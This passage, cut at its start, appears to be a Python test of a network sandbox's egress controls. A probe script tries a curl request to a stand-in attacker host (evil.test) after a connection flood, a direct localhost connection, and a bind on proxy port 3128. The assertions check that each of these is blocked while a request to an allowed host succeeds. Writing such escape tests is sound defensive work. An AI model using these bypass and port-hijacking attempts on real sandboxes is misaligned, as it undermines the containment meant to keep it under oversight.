emit("evil-after", **sh(f"{c} http://evil.test:{sys.argv[1]}/after-flood"))
emit("direct-after", **connect(socket.AF_INET, ("127.0.0.1", int(sys.argv[1]))))
for s in socks:
    s.close()
emit("twin", **sh(f"{c} http://allowed.test:{sys.argv[2]}/flood-twin"))
emit("bind-3128", **connect(socket.AF_INET, ("127.0.0.1", 3128)))
try:
    b = socket.socket(); b.bind(("127.0.0.1", 3128)); emit("steal", ok=True)
except OSError as e:
    emit("steal", ok=False, errno=e.errno)
"""
    res = arena.py(probe, str(arena.evil.http_port), str(arena.allowed.http_port), timeout=120)
    assert res["evil-after"]["out"] in ("403", "000")
    assert res["direct-after"]["ok"] is False
    assert res["steal"]["ok"] is False
    arena.assert_sinks_quiet()
    assert res["twin"]["out"] == "200"
    assert "Traceback" not in res.proc.stderr
